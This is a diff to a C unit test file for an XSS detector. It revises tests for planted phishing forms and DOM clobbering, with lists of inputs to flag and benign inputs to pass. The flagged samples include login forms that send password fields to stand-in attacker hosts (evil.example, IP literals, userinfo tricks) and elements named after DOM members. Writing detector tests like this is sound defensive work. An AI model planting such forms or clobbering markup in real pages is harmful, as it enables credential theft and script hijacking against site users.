@@ -85,20 +85,22 @@ static void test_xss_frame_hidden_by_function(void **st)
 	line_run("frame shown", told, sizeof(told) / sizeof(told[0]), 0);
 }
 
-/* a form posting to another host while the value holds a password field
- * (a login box planted in the page), by action or a button's formaction;
- * a form to another host without one (a newsletter's, a payment
- * button's) and a login form to this site stay below */
+/* a form posting to an IP literal or through userinfo while the value
+ * holds a password field (a login box planted in the page), by action or
+ * a button's formaction; a login form to a named host (the site's own
+ * webmail or sign-on, whose box a portal embeds), a form without a
+ * password field and a login form to this site stay below */
 static void test_xss_phishing_form(void **st)
 {
 	static const char *const hit[] = {
-		"<form action=//evil.example/login method=post><input name=user><input type=password name=pass>"
+		"<form action=//203.0.113.9/login method=post><input name=user><input type=password name=pass>"
 		"<button>Sign in</button></form>",
-		"<form action=https://evil.example/collect><input type=password name=p></form>",
-		"<form method=post action=\"http://203.0.113.9/p.php\">Session expired<input type = \"password\" "
+		"<form action=https://accounts.example.com@evil.example/collect><input type=password name=p></form>",
+		"<form method=post action=\"http://203.0.113.9:8080/p.php\">Session expired<input type = \"password\" "
 		"name=pw><input type=submit></form>",
-		"<button form=f formaction=//evil.example/x>go</button><form id=f><input type='password' name=p></form>",
-		"<form action=\"/\\evil.example\"><input type=password></form>",
+		"<button form=f formaction=//3405803785/x>go</button><form id=f><input type='password' name=p></form>",
+		"<form action=\"/\\[2001:db8::1]/\"><input type=password></form>",
+		"<form action=\"https://user:pw@evil.example/\"><input type=password></form>",
 	};
 	static const char *const told[] = {
 		"<form method=\"post\" action=\"/login\"><input type=\"text\" name=\"username\">"
@@ -109,6 +111,11 @@ static void test_xss_phishing_form(void **st)
 		"<textarea name=\"message\">Forgot my password again</textarea></form>",
 		"<form action=\"https://www.paypal.com/cgi-bin/webscr\" method=\"post\"><input type=\"hidden\" "
 		"name=\"cmd\" value=\"_s-xclick\"></form>",
+		"<form action=\"https://webmail.example.edu/src/redirect.php\" method=\"post\"><input type=\"text\" "
+		"name=\"login_username\"><input type=\"password\" name=\"secretkey\"><input type=\"submit\"></form>",
+		"<form action=\"https://accounts.example.com/login\" method=\"post\"><input name=\"user\">"
+		"<input type=\"password\" name=\"pass\"></form>",
+		"<form action=\"http://10.0.0.5/search\"><input name=\"q\"></form>",
 	};
 
 	(void)st;
@@ -116,24 +123,33 @@ static void test_xss_phishing_form(void **st)
 	line_run("other forms", told, sizeof(told) / sizeof(told[0]), 0);
 }
 
-/* DOM clobbering: an element whose id or name is one of the DOM's own
- * members; form fields named after what forms hold stay below */
+/* DOM clobbering: a form's field or a document-named element (img, form,
+ * embed, object, iframe) whose id or name is one of the DOM's own
+ * members; form fields named after what forms hold ("attributes" too: a
+ * shop's field as often as a probe), an XML config's <Call
+ * name="setAttribute">, an anchor, stay below */
 static void test_xss_dom_clobbering(void **st)
 {
 	static const char *const hit[] = {
-		"<form id=x><input name=attributes>",
-		"<form id=test><input id=attributes><input id=attributes>",
+		"<form id=x><input name=innerHTML>",
+		"<form id=test><input id=firstChild><input id=firstChild>",
 		"<img name=getElementById>",
 		"<form name=body><img id=appendChild>",
 		"<img src=x name=currentScript>",
 		"<iframe name=defaultView src=\"https://example.com\"></iframe>",
-		"<form><input name=\"parentNode\"></form>",
+		"<form><input name=\"ownerDocument\"></form>",
 	};
 	static const char *const told[] = {
 		"<form id=\"checkout\"><input name=\"address\"><input name=\"city\"></form>",
 		"<form><input name=\"title\"><input name=\"body\"><input name=\"domain\"><input name=\"submit\"></form>",
 		"<input type=\"text\" id=\"name\" name=\"name\" autocomplete=\"name\">",
 		"<select name=\"attribute_pa_size\"><option>M</option></select>",
+		"<input type=\"text\" name=\"attributes\" id=\"attributes\">",
+		"<form id=\"x\"><input name=\"attributes\"></form>",
+		"<Call name=\"setAttribute\"><Arg>org.eclipse.jetty.server.webapp.ContainerIncludeJarPattern</Arg></Call>",
+		"<a id=defaultView href=\"#top\">Top</a>",
+		"<input type=\"text\" name=\"nodeName\" placeholder=\"worker-1\">",
+		"<label for=\"localName\">Local name</label><input id=\"localName\" name=\"localName\">",
 	};
 
 	(void)st;
